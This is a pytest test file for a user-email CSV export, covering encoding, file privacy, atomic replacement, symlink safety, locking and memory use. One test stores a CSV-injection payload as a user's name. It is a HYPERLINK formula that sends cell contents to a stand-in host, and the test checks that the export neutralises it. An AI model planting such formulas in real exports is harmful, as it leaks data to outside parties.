"""The export of addresses: its format, its privacy, and its memory over many users."""

import csv
import datetime as dt
import os
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.exc import ProgrammingError

from packages.domain.maintenance.errors import ExportAlreadyRunningError, OutputPathError
from packages.domain.maintenance.output_files import create_partial, partial_path, try_lock
from packages.domain.maintenance.user_emails_export import export_user_emails_csv

CREATED_AT = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)
MANY_USERS = 200_000
# Streamed, the growth is less than 1 MiB; with all rows loaded at once it is some 34 MiB.
ALLOWED_GROWTH_BYTES = 8 * 1024 * 1024

# In a process of its own: the peak of a process never falls, and the test's own has seen other tests.
MEASURE = """\
    import os, resource, sys
    from pathlib import Path
    import sqlalchemy as sa
    from packages.domain.maintenance.user_emails_export import export_user_emails_csv
    def peak_bytes():
        if Path("/proc/self/status").exists():  # on Linux `ru_maxrss` counts the process that started this one, too
            return 1024 * int(Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0])
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    def export():
        return export_user_emails_csv(engine, directory=Path(sys.argv[1])).rows
    engine = sa.create_engine(os.environ["TEST_URL"])
    insert = sa.text(
        "INSERT INTO users (email, display_name, is_active)"
        " SELECT 'user' || g || '@example.com', 'A user with a number ' || g, true"
        " FROM generate_series(CAST(:first AS bigint), CAST(:last AS bigint)) g"
    )
    for first, last in ((1, 5000), (5001, int(sys.argv[2]))):
        with engine.begin() as connection:
            connection.execute(insert, {"first": first, "last": last})
        print(export(), peak_bytes(), flush=True)
"""


@pytest.fixture
def directory(tmp_path: Path) -> Path:
    return tmp_path / "exports"


def _add_user(engine: sa.Engine, email: str, display_name: str, *, is_active: bool = True) -> None:
    statement = sa.text(
        "INSERT INTO users (email, display_name, is_active, created_at) VALUES (:email, :name, :active, :created_at)"
    )
    with engine.begin() as connection:
        values = {"email": email, "name": display_name, "active": is_active, "created_at": CREATED_AT}
        connection.execute(statement, values)


def test_the_file_is_rfc_4180_in_utf_8(engine: sa.Engine, directory: Path) -> None:
    _add_user(engine, "ada@example.com", "Ada, of Lovelace")
    _add_user(engine, "zoë@example.com", 'Zoë "Z"\nNeil', is_active=False)

    result = export_user_emails_csv(engine, directory=directory)

    assert result.path.read_bytes().decode("utf-8") == (
        '"id","email","display_name","is_active","created_at"\r\n'
        '"1","ada@example.com","Ada, of Lovelace","true","2026-01-02T03:04:05+00:00"\r\n'
        '"2","zoë@example.com","Zoë ""Z""\nNeil","false","2026-01-02T03:04:05+00:00"\r\n'
    )
    assert (result.path, result.rows) == (directory / "user_emails.csv", 2)
    assert result.bytes == result.path.stat().st_size
    assert result.seconds > 0


def test_no_users_give_the_header_alone(engine: sa.Engine, directory: Path) -> None:
    result = export_user_emails_csv(engine, directory=directory)
    assert result.rows == 0
    assert result.path.read_text().count("\n") == 1


def test_a_formula_in_a_users_name_or_address_is_defused(engine: sa.Engine, directory: Path) -> None:
    _add_user(engine, "+ada@example.com", '=HYPERLINK("http://evil.example?x="&A1,"click")')

    path = export_user_emails_csv(engine, directory=directory).path

    with path.open(newline="", encoding="utf-8") as file:
        record = list(csv.reader(file))[1]
    assert record[1] == "'+ada@example.com"
    assert record[2] == '\'=HYPERLINK("http://evil.example?x="&A1,"click")'


def test_the_file_is_private_whatever_the_umask_and_the_former_file(engine: sa.Engine, directory: Path) -> None:
    directory.mkdir()
    former = directory / "user_emails.csv"
    former.write_text("former")
    former.chmod(0o644)
    umask = os.umask(0)
    try:
        path = export_user_emails_csv(engine, directory=directory).path
    finally:
        os.umask(umask)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_partial_file_is_private_from_its_first_byte(tmp_path: Path) -> None:
    umask = os.umask(0)
    try:
        os.close(create_partial(tmp_path / "x.csv"))
    finally:
        os.umask(umask)
    assert stat.S_IMODE(partial_path(tmp_path / "x.csv").stat().st_mode) == 0o600


def test_a_reader_of_the_former_file_goes_on_reading_it(engine: sa.Engine, directory: Path) -> None:
    _add_user(engine, "ada@example.com", "Ada")
    path = export_user_emails_csv(engine, directory=directory).path
    before = path.read_text()
    with path.open(newline="") as reader:
        _add_user(engine, "bob@example.com", "Bob")
        export_user_emails_csv(engine, directory=directory)
        assert reader.read().replace("\r", "") == before.replace("\r", "")
    assert "bob@example.com" in path.read_text()


def test_the_former_file_stays_when_the_export_fails(engine: sa.Engine, database_url: str, directory: Path) -> None:
    path = export_user_emails_csv(engine, directory=directory).path
    before = path.read_bytes()
    without_tables = sa.create_engine(database_url, poolclass=sa.NullPool)

    with pytest.raises(ProgrammingError, match="users"):
        export_user_emails_csv(without_tables, directory=directory)

    assert path.read_bytes() == before
    assert {file.name for file in directory.iterdir()} == {"user_emails.csv", ".user_emails.lock"}


def test_what_a_killed_run_left_is_replaced(engine: sa.Engine, directory: Path) -> None:
    directory.mkdir()
    partial_path(directory / "user_emails.csv").write_text("half of a file")
    path = export_user_emails_csv(engine, directory=directory).path
    assert path.read_text().startswith('"id"')
    assert not partial_path(path).exists()


def test_a_link_in_place_of_the_file_is_replaced_and_its_target_is_not_written(
    engine: sa.Engine, directory: Path, tmp_path: Path
) -> None:
    directory.mkdir()
    target = tmp_path / "target"
    target.write_text("untouched")
    (directory / "user_emails.csv").symlink_to(target)
    partial_path(directory / "user_emails.csv").symlink_to(target)

    path = export_user_emails_csv(engine, directory=directory).path

    assert not path.is_symlink()
    assert target.read_text() == "untouched"


def test_a_second_export_at_the_same_time_is_refused(engine: sa.Engine, directory: Path) -> None:
    directory.mkdir()
    with try_lock(directory / ".user_emails.lock") as lock:
        assert lock is not None
        with pytest.raises(ExportAlreadyRunningError, match="user_emails"):
            export_user_emails_csv(engine, directory=directory)
    export_user_emails_csv(engine, directory=directory)


def test_a_relative_directory_is_refused(engine: sa.Engine) -> None:
    with pytest.raises(OutputPathError, match="it is a relative path"):
        export_user_emails_csv(engine, directory=Path("exports"))


def test_memory_does_not_grow_with_the_number_of_users(url: str, directory: Path) -> None:
    measured = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(MEASURE), str(directory), str(MANY_USERS)],
        env={**os.environ, "TEST_URL": url},
        check=True,
        stdout=subprocess.PIPE,
        text=True,
    )
    (few, peak_of_few), (many, peak_of_many) = (map(int, line.split()) for line in measured.stdout.splitlines())
    assert (few, many) == (5000, MANY_USERS)
    assert peak_of_many - peak_of_few < ALLOWED_GROWTH_BYTES
